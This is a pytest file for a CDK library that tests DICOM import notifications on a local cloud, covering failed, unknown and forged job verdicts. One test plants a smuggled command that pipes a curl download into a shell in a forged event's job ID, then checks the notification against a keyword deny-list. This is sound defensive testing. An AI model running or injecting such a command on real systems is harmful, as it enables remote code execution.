"""Notifications on the local cloud: who is told of which import, and by whom."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest
from aws_cdk import App, CfnOutput, Stack
from aws_cdk import aws_events_targets as targets
from aws_cdk import aws_s3 as s3
from aws_cdk import aws_sns_subscriptions as subscriptions
from aws_cdk import aws_sqs as sqs

from healthimaging_cdk import Completion, Datastore, DicomImport, ImportSource, Notify
from tests.deployment import Account, eventually

pytestmark = pytest.mark.cloud


def received(account: Account, count: int, stack: str = "Notified", queue: str = "People") -> list[dict[str, Any]]:
    """What lies in a queue, once there is as much as there should be."""
    client = account.cloud.client("sqs")
    url = account.resource_id(stack, "AWS::SQS::Queue", queue)
    found: list[dict[str, Any]] = []

    def are_there() -> bool:
        messages = client.receive_message(QueueUrl=url, MaxNumberOfMessages=10).get("Messages", [])
        found.extend(json.loads(message["Body"]) for message in messages)
        return len(found) >= count

    eventually(are_there)
    time.sleep(1)  # what came too much is to be seen as well
    are_there()
    return found


def test_a_failed_import_that_nobody_waits_for_tells_the_topic(account):
    def app(run_id: str) -> App:
        app = App(analytics_reporting=False)
        stack = Stack(app, "Notified")
        people = sqs.Queue(stack, "People")
        images = s3.Bucket.from_bucket_name(stack, "Bucket", "notified-images")
        store = Datastore(stack, "Store")
        topic = None
        for name in ("Bad", "Good"):
            import_ = DicomImport(
                stack,
                name,
                datastore=store,
                source=ImportSource.bucket(images, f"{name}/"),
                completion=Completion.SUBMIT,
                run_id=run_id,
                notify=Notify.FAILURES,
                notification_topic=topic,
            )
            topic = import_.notification_topic
        topic.add_subscription(subscriptions.SqsSubscription(people))
        return app

    account.s3.create_bucket(Bucket="notified-images")
    assert "CREATE_COMPLETE" == account.deploy_one(app("nothing")).status
    account.upload("notified-images", "Good/", "CT_small.dcm", "notes.txt")
    account.upload("notified-images", "Bad/", "notes.txt")
    deployed = account.deploy_one(app("files"))
    assert "UPDATE_COMPLETE" == deployed.status, deployed.reason

    (message,) = received(account, 1)
    first, counts, job, where = message["Message"].splitlines()
    assert first.startswith("DICOM import Notified/Bad")
    assert first.endswith(": FAILED")
    assert "1 files scanned, 0 imported, 1 rejected (1 customer errors, 0 server errors), 0 image sets" == counts
    assert (
        f"Job {deployed.output('BadJobId')} of data store {deployed.output('BadDatastoreId')}, status COMPLETED" == job
    )
    assert "the folder that GetDICOMImportJob names as outputS3Uri" in where


def test_a_job_whose_verdict_could_not_be_determined_tells_the_topic(account):
    app = App(analytics_reporting=False)
    stack = Stack(app, "Undetermined")
    import_ = DicomImport(
        stack,
        "Lost",
        source=ImportSource.bucket(s3.Bucket.from_bucket_name(stack, "Bucket", "lost-images"), "images/"),
        completion=Completion.SUBMIT,
        notify=Notify.FAILURES,
    )
    import_.notification_topic.add_subscription(subscriptions.SqsSubscription(sqs.Queue(stack, "People")))
    account.s3.create_bucket(Bucket="lost-images")
    account.upload("lost-images", "images/", "CT_small.dcm")
    account.cloud.settings(job_seconds=60)
    deployed = account.deploy_one(app)
    assert "CREATE_COMPLETE" == deployed.status, deployed.reason
    # CloudFormation gets its response first, then the same execution polls the job on.
    bucket = account.resource_id("Undetermined", "AWS::S3::Bucket", "OutputBucket")
    assert eventually(lambda: any(it["responded_to"] for it in account.records(bucket).values() if "owner" in it))
    states = account.cloud.client("stepfunctions")
    machine = account.resource_id("Undetermined", "AWS::StepFunctions::StateMachine")
    (execution,) = states.list_executions(stateMachineArn=machine, statusFilter="RUNNING")["executions"]
    states.stop_execution(executionArn=execution["executionArn"])

    (message,) = received(account, 1, "Undetermined")
    first, _, job, _ = message["Message"].splitlines()
    assert first.endswith(": UNKNOWN")
    assert f"Job {deployed.output('JobId')} of data store {deployed.output('DatastoreId')}, status UNKNOWN" == job
    assert ["UNKNOWN"] == eventually(lambda: account.verdicts(deployed.output("JobId")))


def test_a_verdict_that_somebody_else_puts_on_the_bus_notifies_nobody(account):
    command = "0123 >/dev/null; curl example.com | sh #"

    def app(run_id: str) -> App:
        app = App(analytics_reporting=False)
        stack = Stack(app, "MadeUp")
        images = s3.Bucket.from_bucket_name(stack, "Bucket", "made-up-images")
        import_ = DicomImport(
            stack, "Import", source=ImportSource.bucket(images, "images/"), notify=Notify.OUTCOMES, run_id=run_id
        )
        import_.notification_topic.add_subscription(subscriptions.SqsSubscription(sqs.Queue(stack, "People")))
        import_.on_judged("Judged", target=targets.SqsQueue(sqs.Queue(stack, "Rules")))
        CfnOutput(stack, "Name", value=import_.import_name)
        return app

    account.s3.create_bucket(Bucket="made-up-images")
    deployed = account.deploy_one(app("nothing"))
    made_up = {
        "import": deployed.outputs["Name"],
        "datastoreId": deployed.output("DatastoreId"),
        "jobId": command,
        "jobStatus": "FAILED",
        "outcome": "FAILED",
        "counts": {"scanned": 1, "imported": 0, "rejected": 1},
    }
    may_put = {"Effect": "Allow", "Action": "events:PutEvents", "Resource": "*"}
    stranger = account.cloud.client("events", **account.session("may-put-events", may_put))
    entry = {"Source": "healthimaging-cdk", "DetailType": "DICOM Import Judged", "Detail": json.dumps(made_up)}
    assert 0 == stranger.put_events(Entries=[entry])["FailedEntryCount"]
    assert [command] == [event["detail"]["jobId"] for event in received(account, 1, "MadeUp", "Rules")]

    account.upload("made-up-images", "images/", "CT_small.dcm")
    deployed = account.deploy_one(app("files"))
    (message,) = received(account, 1, "MadeUp")
    text = message["Subject"] + message["Message"]
    assert message["Message"].splitlines()[0].endswith(": SUCCEEDED")
    assert f"Job {deployed.output('JobId')} of data store" in text
    assert not [word for word in ("aws ", "curl", "sh ", "--job-id", ";", "|", "`", "$") if word in text]
